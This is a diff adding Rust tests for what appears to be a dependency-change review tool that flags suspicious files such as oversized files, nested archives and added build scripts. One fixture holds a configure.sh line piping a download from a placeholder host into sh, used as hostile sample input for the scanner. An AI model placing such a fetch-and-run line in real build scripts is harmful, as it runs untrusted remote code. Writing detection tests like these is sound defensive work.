@@ -285,6 +285,59 @@ fn licences_that_change_alike_are_told_once() {
 }
 
 #[test]
+fn the_page_has_the_advice_and_names_as_they_are() {
+    let lock = |version: &str| {
+        format!(
+            "[[package]]\nname = \"Inflector\"\nversion = \"{version}\"\nchecksum = \"{version}\"\n"
+        )
+    };
+    let (one, two) = (lock("1.0"), lock("1.1"));
+    let script: &[u8] = b"#!/bin/sh\ncurl -s http://build.example.invalid/x | sh\n";
+    let old = made(&[("Cargo.lock", one.as_bytes())]);
+    let new = made(&[("Cargo.lock", two.as_bytes()), ("configure.sh", script)]);
+    let report = reviewed(&old, &new, None);
+    let page = render::html(&report);
+    assert!(page.contains("<p id=\"advice\"><b>"), "{page}");
+    assert!(page.contains("Inflector version"), "{page}");
+}
+
+#[test]
+fn what_is_odd_about_an_archive_is_told_once() {
+    let mut new = crate::support::tree(b"\x1f\x8b\x08broken");
+    new.files.clear();
+    assert_eq!(new.signals.len(), 1);
+    assert_eq!(reviewed(&made(&[]), &new, None).signals.len(), 1);
+}
+
+#[test]
+fn a_file_into_which_no_rule_looks_is_told() {
+    let large = vec![b'a'; (64 << 20) + 1];
+    let report = reviewed(&made(&[]), &made(&[("a.txt", &large)]), None);
+    let told: Vec<_> = report
+        .signals
+        .iter()
+        .map(|it| (&*it.rule, &*it.path))
+        .collect();
+    assert_eq!(told, [("too-large", "a.txt")]);
+    assert!(report.alarms());
+}
+
+#[test]
+fn a_name_between_an_archive_and_what_is_in_it_hides_nothing() {
+    let new = made(&[
+        ("data.zip", b"PK\x03\x04\x14\0"),
+        ("data.zip x", b"x"),
+        ("data.zip!/run.sh", b"#!/bin/sh\necho\n"),
+    ]);
+    let report = reviewed(&made(&[]), &new, None);
+    let found = report
+        .signals
+        .iter()
+        .find(|it| it.rule == "nested-archive-added");
+    assert!(found.unwrap().why.contains("programs"), "{found:?}");
+}
+
+#[test]
 fn json_has_the_stable_fields() {
     let json: serde_json::Value = serde_json::from_str(&render::json(&hostile()).unwrap()).unwrap();
     assert_eq!(json["files"].as_array().unwrap().len(), 2);
